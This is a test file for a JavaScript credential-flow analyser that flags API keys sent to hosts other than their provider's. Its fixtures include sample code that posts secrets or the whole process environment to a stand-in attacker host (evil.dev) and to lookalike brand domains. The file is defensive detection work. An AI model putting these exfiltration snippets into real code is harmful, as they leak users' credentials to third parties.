import { describe, expect, test } from 'vitest';
import { strayCredentials } from '../../src/analysis/credentials/judge.ts';
import { credentialUses } from '../../src/analysis/credentials/uses.ts';
import { analyseSource } from '../../src/analysis/source.ts';

const bytes = (text: string) => new TextEncoder().encode(text);

function usesOf(...sources: readonly string[]) {
  return credentialUses(sources.map((text, index) => analyseSource({ path: `src/${index}.js`, bytes: bytes(text) })));
}

/** `variable → hosts`, with the level where it is not `followed`. */
function shown(...sources: readonly string[]) {
  return usesOf(...sources).map(
    ({ variable, hosts, through, level }) =>
      `${variable} → ${through === null ? hosts.join(' ') : `through ${through}`}${level === 'followed' ? '' : ` (${level})`}`,
  );
}

function strays(...sources: readonly string[]) {
  return strayCredentials('npm', 'some-mcp', usesOf(...sources)).map(({ variable, hosts }) => `${variable} → ${hosts.join(' ')}`);
}

describe('a key is followed', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    [
      'into a header',
      `fetch('https://api.x.dev/v1', { headers: { Authorization: \`Bearer \${process.env.X_API_KEY}\` } })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'into a header object made before',
      `const headers = { 'x-api-key': process.env.X_API_KEY };\nfetch('https://api.x.dev/v1', { headers })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'into a header set later',
      `const headers = new Headers(); headers.set('apikey', process.env.X_API_KEY); fetch('https://api.x.dev', { headers })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'into a query string',
      `const url = new URL('https://api.x.dev/v1'); url.searchParams.set('key', process.env.X_API_KEY); fetch(url)`,
      'X_API_KEY → api.x.dev',
    ],
    ['into a URL', `fetch('https://api.x.dev/v1?key=' + process.env.X_API_KEY)`, 'X_API_KEY → api.x.dev'],
    [
      'into a body, as base64',
      `const b = Buffer.from(process.env.X_API_KEY).toString('base64'); fetch('https://api.x.dev', { method: 'POST', body: JSON.stringify({ b }) })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'through a helper that makes headers',
      `const KEY = process.env.X_API_KEY;\nfunction headers() { return { authorization: 'Bearer ' + KEY }; }\nfetch('https://api.x.dev', { headers: headers() })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'through a helper that sends',
      `function send(path, token) { return fetch(\`https://api.x.dev/\${path}\`, { headers: { token } }); }\nsend('a', process.env.X_API_KEY)`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'through a class',
      `class Client { constructor(key) { this.key = key; this.base = 'https://api.x.dev'; }\n list() { return fetch(this.base + '/l', { headers: { a: this.key } }); } }\nnew Client(process.env.X_API_KEY)`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'through a class field',
      `class Client { #key = process.env.X_API_KEY; base = 'https://api.x.dev'; list() { return fetch(\`\${this.base}/l\`, { headers: { a: this.#key } }); } }`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'through a config object',
      `const config = { apiKey: process.env.X_API_KEY, url: 'https://api.x.dev' };\nconst { apiKey, url } = config;\nfetch(url, { headers: { apiKey } })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'from a renamed environment',
      `const e = process.env; const k = e.X_API_KEY; fetch('https://api.x.dev', { headers: { k } })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'from a destructured environment',
      `const { X_API_KEY: k } = process.env; fetch('https://api.x.dev', { headers: { k } })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'from a computed member',
      `fetch('https://api.x.dev', { headers: { k: process['en' + 'v']['X_API' + '_KEY'] } })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'to a host made of parts',
      `const host = ['api', 'x', 'dev'].join('.'); fetch(\`https://\${host}/v1\`, { headers: { k: process.env.X_API_KEY } })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'to a host without a URL',
      `import https from 'node:https';\nhttps.request({ hostname: 'api.x.dev', headers: { k: process.env.X_API_KEY } })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'to a host made at run time',
      `fetch(\`https://\${process.env.X_HOST}/v1\`, { headers: { k: process.env.X_API_KEY } })`,
      'X_API_KEY → *',
    ],
    [
      'into a client made with it',
      `import axios from 'axios';\nconst client = axios.create({ baseURL: 'https://api.x.dev', headers: { k: process.env.X_API_KEY } });\nclient.get('/a')`,
      'X_API_KEY → api.x.dev',
    ],
    ['into a library', `import Stripe from 'stripe';\nnew Stripe(process.env.STRIPE_SECRET_KEY)`, 'STRIPE_SECRET_KEY → through stripe'],
    [
      'into a library with a host',
      `import OpenAI from 'openai';\nnew OpenAI({ apiKey: process.env.X_API_KEY, baseURL: 'https://api.x.dev/v1' })`,
      'X_API_KEY → api.x.dev',
    ],
    [
      'as the whole environment',
      `fetch('https://api.x.dev', { method: 'POST', body: JSON.stringify({ ...process.env }) })`,
      '* → api.x.dev',
    ],
  ];
  test.each(cases)('%s', (_, source, expected) => {
    expect(shown(source)).toContain(expected);
  });

  test('one name in two functions is two names', () => {
    const source = `function a() { const key = process.env.A_API_KEY; fetch('https://a.dev', { headers: { key } }); }
function b() { const key = process.env.B_API_KEY; fetch('https://b.dev', { headers: { key } }); }`;
    expect(shown(source)).toEqual(['A_API_KEY → a.dev', 'B_API_KEY → b.dev']);
  });

  test('the answer of one service does not carry its key to the next', () => {
    const source = `async function run() { const answer = await fetch('https://a.dev', { headers: { key: process.env.A_API_KEY } });
await fetch('https://b.dev', { method: 'POST', body: await answer.text() }); }`;
    expect(shown(source)).toEqual(['A_API_KEY → a.dev']);
  });

  test('what it is not followed to is told by file, then by package', () => {
    expect(shown(`export const key = process.env.X_API_KEY;\nconst url = 'https://api.x.dev/';\nsend(url, key)`)).toEqual([
      'X_API_KEY → api.x.dev (same-file)',
    ]);
    expect(
      shown(`export const key = process.env.X_API_KEY;`, `import { key } from './0.js'; fetch('https://api.x.dev', { headers: { key } })`),
    ).toEqual(['X_API_KEY → api.x.dev (same-package)']);
  });

  test.each([
    ['a log line', `console.log('https://api.x.dev', process.env.X_API_KEY)`],
    ['a schema', `import { z } from 'zod'; z.string().describe('see https://x.dev').default(process.env.X_API_KEY)`],
  ])('%s sends nothing', (_, source) => {
    expect(usesOf(source).filter(({ level }) => level === 'followed')).toEqual([]);
  });

  test('in a bundle of a megabyte nothing is claimed to be followed', () => {
    const padding = `// ${'x'.repeat(200)}\n`.repeat(6_000);
    expect(shown(`fetch('https://api.x.dev', { headers: { k: process.env.X_API_KEY } });\n${padding}f();`)).toEqual([
      'X_API_KEY → api.x.dev (same-file)',
    ]);
  });

  test('a hostile file costs a bound', () => {
    const chain = `const k0 = process.env.X_API_KEY;\n${Array.from({ length: 3_000 }, (_, at) => `const k${at + 1} = k${at} + k${Math.max(0, at - 1)};`).join('\n')}\nfetch('https://api.x.dev?' + k3000)`;
    expect(usesOf(chain).map(({ variable }) => variable)).toContain('X_API_KEY');
    const wide = `const k = process.env.X_API_KEY; f(${'g('.repeat(150)}k${')'.repeat(150)});`.repeat(300);
    expect(usesOf(wide).map(({ variable }) => variable)).toEqual(['X_API_KEY']);
  });
});

describe('a key that goes to somebody else', () => {
  test.each([
    [
      'a gateway',
      `fetch('https://gateway.evil.dev/stripe', { headers: { k: process.env.STRIPE_SECRET_KEY } })`,
      'STRIPE_SECRET_KEY → gateway.evil.dev',
    ],
    [
      'a host that begins like the brand',
      `fetch('https://api.stripe.com.evil.dev/v1', { headers: { k: process.env.STRIPE_SECRET_KEY } })`,
      'STRIPE_SECRET_KEY → api.stripe.com.evil.dev',
    ],
    [
      'a host that ends like the brand',
      `fetch('https://evilstripe.com/v1', { headers: { k: process.env.STRIPE_SECRET_KEY } })`,
      'STRIPE_SECRET_KEY → evilstripe.com',
    ],
    [
      'a name before an @',
      `fetch('https://api.stripe.com@evil.dev/v1', { headers: { k: process.env.STRIPE_SECRET_KEY } })`,
      'STRIPE_SECRET_KEY → evil.dev',
    ],
    [
      'beside the right one',
      `const k = process.env.STRIPE_SECRET_KEY; fetch('https://api.stripe.com/v1', { headers: { k } }); fetch('https://evil.dev', { method: 'POST', body: k })`,
      'STRIPE_SECRET_KEY → evil.dev',
    ],
    [
      'a place below the brand where anybody may stand',
      `fetch('https://x.vercel.app/api', { headers: { k: process.env.VERCEL_TOKEN } })`,
      'VERCEL_TOKEN → x.vercel.app',
    ],
    [
      'a proxy on this machine',
      `fetch('http://localhost:8080/v1', { headers: { k: process.env.STRIPE_SECRET_KEY } })`,
      'STRIPE_SECRET_KEY → localhost',
    ],
    [
      'a gateway library',
      `import { Composio } from '@composio/core'; new Composio({ github: process.env.GITHUB_TOKEN })`,
      'GITHUB_TOKEN → through @composio/core',
    ],
    ['the whole environment', `fetch('https://evil.dev', { method: 'POST', body: JSON.stringify(process.env) })`, '* → evil.dev'],
    [
      'an unfollowed key with foreign hosts alone',
      `export const k = process.env.STRIPE_SECRET_KEY; const url = 'https://evil.dev/'; send(url, k)`,
      'STRIPE_SECRET_KEY → evil.dev',
    ],
  ])('%s', (_, source, expected) => {
    expect(strays(source)).toEqual([expected]);
  });

  test.each([
    ['the brand itself', `fetch('https://api.stripe.com/v1', { headers: { k: process.env.STRIPE_SECRET_KEY } })`],
    ['a sub-domain', `fetch('https://files.eu.stripe.com/v1', { headers: { k: process.env.STRIPE_API_KEY } })`],
    ['its own library', `import Stripe from 'stripe'; new Stripe(process.env.STRIPE_SECRET_KEY)`],
    [
      'a library called after the brand',
      `import { ChatOpenAI } from '@langchain/openai'; new ChatOpenAI({ apiKey: process.env.OPENAI_API_KEY })`,
    ],
    ['a host that the user names', `fetch(process.env.GITLAB_API_URL + '/projects', { headers: { t: process.env.GITLAB_TOKEN } })`],
    ['a key of nobody known', `fetch('https://api.x.dev', { headers: { k: process.env.X_API_KEY } })`],
    [
      'a child that gets the environment',
      `import { spawn } from 'node:child_process'; spawn('git', ['status'], { env: { ...process.env } })`,
    ],
    [
      'links to documents beside an unfollowed key',
      `export const k = process.env.STRIPE_SECRET_KEY; const help = 'https://docs.stripe.com/keys';`,
    ],
  ])('is quiet about %s', (_, source) => {
    expect(strays(source)).toEqual([]);
  });

  test('a library of the brand elsewhere in the package settles a key that could not be followed', () => {
    const config = `export const key = process.env.OPENAI_API_KEY;`;
    const own = `export const base = 'https://api.my-service.dev/';`;
    expect(strays(config, own)).toEqual(['OPENAI_API_KEY → api.my-service.dev']);
    expect(strays(config, own, `import OpenAI from 'openai'; export const make = (key) => new OpenAI({ apiKey: key });`)).toEqual([]);
  });

  test('the environment does not hang on a member of the same name', () => {
    expect(strays(`const options = { env: process.env }; spawn('git', options);\nfetch('https://x.dev', { body: settings.env })`)).toEqual(
      [],
    );
  });

  test('a brand may do with its own keys what it likes', () => {
    const uses = usesOf(`fetch('https://edge.example.net', { headers: { k: process.env.STRIPE_SECRET_KEY } })`);
    expect(strayCredentials('npm', '@stripe/mcp', uses)).toEqual([]);
    expect(strayCredentials('npm', '@stripe-official/mcp', uses)).toHaveLength(1);
  });
});
